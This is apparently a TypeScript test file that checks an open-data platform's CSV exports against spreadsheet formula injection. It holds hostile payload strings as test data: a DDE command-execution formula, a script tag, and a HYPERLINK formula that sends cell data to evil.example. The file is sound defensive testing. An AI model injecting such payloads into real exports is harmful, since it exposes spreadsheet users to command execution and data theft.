// Security review probes 360 and 364: a text cell that starts like a formula (=, +, -, @, tab, CR)
// reached spreadsheets as a formula. Every CSV download now goes through core/csv.ts; this file
// checks each one (the proposals' open data is checked in petitions/http/routes.test.ts).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { person, createConversation } from '../src/modules/deliberation/test-support.js';
import { datasetInput, opendataApp } from '../src/modules/opendata/test/fixtures.js';
import { packageCreate } from '../src/modules/opendata/catalog/actions/package_create.js';
import { statsCsv } from '../src/modules/opendata/stats/stats.js';
import { inventoryCsv } from '../src/modules/opendata/requests/http/requests.js';
import { reportCsv } from '../src/modules/deliberation/report.js';
import type { Report } from '../src/modules/deliberation/schemas.js';
import type { InventoryItem } from '../src/modules/opendata/requests/actions/shared.js';

const CALC = `=cmd|' /C calc'!A0 <script>alert(1)</script>`;
const HYPERLINK = `=HYPERLINK("http://evil.example/?"&A1,"click") +cmd|' /C calc'!A0`;
const TRIGGERS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];

const cells = (csv: string) => (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
/** No cell a spreadsheet would evaluate: none starts with a formula character. */
function assertNoFormula(csv: string, what: string) {
  const dangerous = cells(csv).filter((c) => /^[=+\-@\t\r]/.test(c));
  assert.deepEqual(dangerous, [], what);
}

test('probe 360: /catalog/export.csv neutralises a formula title; the JSON export keeps it as written', async () => {
  const t = await opendataApp();
  try {
    await t.deps.registry.call(packageCreate, datasetInput({ title: CALC }), { actor: t.moda });
    const res = await t.app.inject({ url: '/catalog/export.csv' });
    assert.equal(res.statusCode, 200);
    assertNoFormula(res.body, 'catalog export');
    assert.ok(cells(res.body).includes(`'${CALC}`));
    const json = await t.app.inject({ url: '/catalog/export.json' });
    assert.equal((json.json() as Array<{ title: string }>)[0]!.title, CALC);
  } finally {
    await t.close();
  }
});

test('probe 364: deliberation comments.csv (and every Polis export file) neutralises formula statements', async () => {
  const t = await opendataApp();
  try {
    const c = await createConversation(t.deps, person('platform_admin'), { agencyCode: 'moda', topic: '=1+1 主題', seedStatements: [HYPERLINK, '+1 陳述', '-1 陳述', '@SUM(A1) 陳述'] }).catch((e) => assert.fail(JSON.stringify(e.fields)));
    for (const file of ['comments.csv', 'votes.csv', 'participants-votes.csv', 'summary.csv']) {
      const res = await t.app.inject({ url: `/deliberation/${c.id}/export/${file}` });
      assert.equal(res.statusCode, 200, file);
      assertNoFormula(res.body, file);
    }
    const comments = await t.app.inject({ url: `/deliberation/${c.id}/export/comments.csv` });
    assert.ok(cells(comments.body).includes(`'${HYPERLINK}`));
  } finally {
    await t.close();
  }
});

test('the deliberation report figures neutralise statement text; negative numbers stay numbers', () => {
  const report = {
    groups: [{ id: 0, label: '=A', size: 1, x: -0.5, y: 0.25, representative: [] }],
    majority: TRIGGERS.map((text, i) => ({ statement: i, direction: 'agree', percent: 0.9, votes: 3, pTest: 2, text })),
  } as unknown as Report;
  const majority = reportCsv(report, 'majority');
  assertNoFormula(majority, 'majority');
  for (const text of TRIGGERS) assert.ok(cells(majority).includes(`'${text}`), JSON.stringify(text));
  const groups = reportCsv(report, 'groups');
  assert.deepEqual(parse(groups)[1], ['0', "'=A", '1', '-0.5', '0.25']);
});

test('the catalog statistics and the open-data inventory CSVs neutralise formula names', () => {
  const stats = statsCsv({
    agency: null,
    totals: { datasets: 1, resources: 1, views: 0, downloads: 0 },
    byAgency: [{ code: 'x', nameZh: '@SUM(1)', nameEn: '+1', count: 1 }],
    byCategory: [],
    byFormat: [{ format: '-CSV', count: 1 }],
    growth: [],
    topDownloads: [{ name: 'd', title: CALC, agencyCode: 'x', downloads: 1, views: 1 }],
  } as never);
  assertNoFormula(stats, 'stats');
  const item = { agency: { code: 'moda', nameZh: '=機關' }, name: '+名稱', description: '-說明', open: true, legalReason: null, legalNote: '@註', dataset: { identifier: 'id', title: CALC }, updatedAt: '2026-12-03T00:00:00.000Z' } as unknown as InventoryItem;
  assertNoFormula(inventoryCsv([item]), 'inventory');
});
